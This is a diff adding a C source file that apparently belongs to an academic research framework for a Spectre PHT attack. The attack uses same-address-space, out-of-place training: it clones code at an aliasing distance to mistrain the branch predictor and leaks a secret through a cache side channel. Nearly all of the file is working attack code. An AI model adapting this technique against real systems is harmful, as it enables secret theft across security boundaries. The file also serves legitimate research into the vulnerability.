@@ -0,0 +1,223 @@
+/**
+ * \brief  Spectre PHT-SA-OP.
+ * \author Pierre AYOUB -- IRISA, CNRS
+ * \date   2020
+ *
+ * \details This file contain a Spectre attack targeting the Pattern History
+ *          Table, in a same address-space and an out-of-place training.
+ * \warning Same as the in-place variant: code is weird on purpose, to
+ *          minimize the branch predictor and cache overhead.
+ */
+
+#define _GNU_SOURCE
+
+#include <stdio.h>
+#include <string.h>
+#include <stdint.h>
+#include <unistd.h>
+#include <link.h>
+#include <sys/mman.h>
+
+/* Contain ARMv8 or x86-64 implementation of flush, rdtsc and [im]fence. */
+#include "asm.h"
+/* Used for \sa {receiver_read()}. */
+#include "receiver.h"
+
+#include "spectre_pht_sa_op.h"
+
+/* * Shadow: */
+
+/* ** Private functions: */
+
+/** Read-only image (non-writable loadable segments) of the object holding an
+    address, found by \sa {image_find()} and cloned at a distance by \sa
+    {image_copy()}. */
+struct image
+{
+    /** Address searched, and load address of the object holding it. */
+    uintptr_t addr;
+    uintptr_t base;
+    /** Page-aligned range of the image. */
+    uintptr_t start, end;
+    /** Distance between the image and its clone. */
+    size_t distance;
+};
+
+static int image_find(struct dl_phdr_info * info, size_t size, void * data) {
+    struct image * img = data;
+    uintptr_t start = UINTPTR_MAX, end = 0, lo, hi;
+    int found = 0;
+
+    for (int i = 0; i < info->dlpi_phnum; i++) {
+        if (info->dlpi_phdr[i].p_type != PT_LOAD || info->dlpi_phdr[i].p_flags & PF_W)
+            continue;
+        lo = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
+        hi = lo + info->dlpi_phdr[i].p_memsz;
+        found |= img->addr >= lo && img->addr < hi;
+        start = lo < start ? lo : start;
+        end   = hi > end   ? hi : end;
+    }
+    if (!found)
+        return 0;
+    img->base  = info->dlpi_addr;
+    img->start = start;
+    img->end   = end;
+    return 1;
+}
+
+/* Copy the segments of the image into the clone. Gaps between them stay
+   zeroed. */
+static int image_copy(struct dl_phdr_info * info, size_t size, void * data) {
+    struct image * img = data;
+    uintptr_t lo;
+
+    if (info->dlpi_addr != img->base)
+        return 0;
+    for (int i = 0; i < info->dlpi_phnum; i++) {
+        if (info->dlpi_phdr[i].p_type != PT_LOAD || info->dlpi_phdr[i].p_flags & PF_W)
+            continue;
+        lo = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
+        memcpy((char *) lo + img->distance, (char *) lo, info->dlpi_phdr[i].p_memsz);
+    }
+    return 1;
+}
+
+/* Clone the read-only image of the program at "distance" bytes of it, and
+   point the shadow to the clone of the victim. The whole image is cloned
+   because the victim reads its constants relatively to the program counter
+   (x86-64). Return 0 on success, 1 if the distance isn't page-aligned or its
+   range isn't free. */
+static int shadow_place(struct spectre_ctx * ctx, size_t distance) {
+    struct image img = { .addr = (uintptr_t) ctx->victim };
+    long page = sysconf(_SC_PAGESIZE);
+    int flags = MAP_PRIVATE | MAP_ANONYMOUS;
+    void * want, * map;
+
+    if (distance % page || !dl_iterate_phdr(image_find, &img))
+        return 1;
+    img.start &= ~(page - 1);
+    img.end    = (img.end + page - 1) & ~(page - 1);
+    want = (void *) (img.start + distance);
+#ifdef MAP_FIXED_NOREPLACE
+    flags |= MAP_FIXED_NOREPLACE;
+#endif
+    /* Without MAP_FIXED_NOREPLACE, the address is only a hint, checked
+       below. */
+    map = mmap(want, img.end - img.start, PROT_READ | PROT_WRITE, flags, -1, 0);
+    if (map == MAP_FAILED)
+        return 1;
+    if (map != want) {
+        munmap(map, img.end - img.start);
+        return 1;
+    }
+    img.distance = distance;
+    dl_iterate_phdr(image_copy, &img);
+    if (mprotect(map, img.end - img.start, PROT_READ | PROT_EXEC)) {
+        munmap(map, img.end - img.start);
+        return 1;
+    }
+    __builtin___clear_cache(map, (char *) map + (img.end - img.start));
+    ctx->shadow      = (void (*)(struct spectre_ctx *, size_t)) ((uintptr_t) ctx->victim + distance);
+    ctx->shadow_map  = map;
+    ctx->shadow_size = img.end - img.start;
+    return 0;
+}
+
+/* Read OP_SEARCH_BYTES bytes of the secret with the current shadow, and count
+   the correct bytes and the hits on the lines of the secret. */
+static void shadow_score(struct spectre_ctx * ctx, int * correct, int * hits) {
+    /* Start of the secret, as in \sa {experiment_run()}. */
+    size_t malicious_x = (size_t) (ctx->secret - (char *) ctx->array1);
+    int scores[256], score;
+    uint8_t value;
+
+    *correct = *hits = 0;
+    for (int i = 0; i < OP_SEARCH_BYTES; i++) {
+        receiver_read(ctx, malicious_x + i, &value, &score, scores);
+        *correct += value == (uint8_t) ctx->secret[i];
+        *hits    += scores[(uint8_t) ctx->secret[i]];
+    }
+}
+
+/* ** Public functions: */
+
+void spectre_pht_sa_op_release(struct spectre_ctx * ctx) {
+    if (ctx->shadow_map)
+        munmap(ctx->shadow_map, ctx->shadow_size);
+    ctx->shadow_map  = NULL;
+    ctx->shadow_size = 0;
+    ctx->shadow      = ctx->victim;
+}
+
+int spectre_pht_sa_op_init(struct spectre_ctx * ctx) {
+    spectre_pht_sa_op_release(ctx);
+    ctx->shadow_search = !ctx->args.op_distance;
+    if (ctx->args.op_distance && shadow_place(ctx, ctx->args.op_distance)) {
+        fprintf(stderr, "Cannot map the shadow of the victim at a distance of %#lx bytes.\n", ctx->args.op_distance);
+        return 1;
+    }
+    return 0;
+}
+
+void spectre_pht_sa_op_search(struct spectre_ctx * ctx) {
+    size_t distance, best = 0;
+    int correct, hits, best_correct, best_hits;
+
+    if (!ctx->shadow_search || ctx->sim)
+        return;
+    ctx->shadow_search = 0;
+    /* The in-place training (distance 0, the shadow being the victim) is the
+       baseline: without aliasing, a shadow would train nothing. */
+    spectre_pht_sa_op_release(ctx);
+    shadow_score(ctx, &best_correct, &best_hits);
+    if (ctx->args.verbose)
+        fprintf(stderr, "# Out-of-place training: distance,correct bytes,secret hits\n0,%d,%d\n",
+                best_correct, best_hits);
+    for (int shift = OP_SEARCH_SHIFT_MIN; shift <= OP_SEARCH_SHIFT_MAX; shift++) {
+        distance = (size_t) 1 << shift;
+        if (shadow_place(ctx, distance))
+            continue;
+        shadow_score(ctx, &correct, &hits);
+        if (ctx->args.verbose)
+            fprintf(stderr, "%#zx,%d,%d\n", distance, correct, hits);
+        /* A distance has to read more bytes than the in-place training, then
+           the hits break the ties between the distances. */
+        if (correct > best_correct || (best && correct == best_correct && hits > best_hits)) {
+            best         = distance;
+            best_correct = correct;
+            best_hits    = hits;
+        }
+        spectre_pht_sa_op_release(ctx);
+    }
+    if (!best)
+        fprintf(stderr, "No distance of the shadow beats the in-place training, the training is in-place.\n");
+    else if (shadow_place(ctx, best))
+        fprintf(stderr, "Cannot map the shadow of the victim again, the training is in-place.\n");
+}
+
+/* * Attack code: */
+
+HOT_PATH HOT_SECTION("probe") void spectre_pht_sa_op_attack(struct spectre_ctx * ctx, size_t training_x, size_t malicious_x) {
+    /* i: Count the number of training and attacks. */
+    int i;
+    /* Offset given to array1, either the training or the malicious one. */
+	size_t x;
+    /* Called function, either the shadow or the victim. */
+    uintptr_t f;
+
+	/* Execute 30 loops (by default): 5 training runs of the shadow (x =
+       training_x) per attack run of the victim (x = malicious_x). */
+	for (i = ctx->loops; i >= 0; i--) {
+        /* Don't work if we not wait for completion here. */
+        mfence();
+		/* Bit twiddling to set : x = (i % 6 != 0) ? training_x : malicious_x; */
+		/* It avoid jumps in case those tip off the branch predictor. */
+		x = ((i % 6) - 1) & ~0xFFFF;                       /* Set x = (i % 6 == 0) ? 0xFF..FF0000 : 0; */
+		x |= x >> 16;                                      /* Set x = (i & 6 == 0) ? -1 : 0; */
+		f = (uintptr_t) ctx->shadow ^ (x & ((uintptr_t) ctx->victim ^ (uintptr_t) ctx->shadow));
+		x = training_x ^ (x & (malicious_x ^ training_x)); /* Set x = (x == 0) ? training_x : malicious_x; */
+
+		/* Call either the shadow, training it, or the victim, attacking it. */
+		((void (*)(struct spectre_ctx *, size_t)) f)(ctx, x);
+	}
+}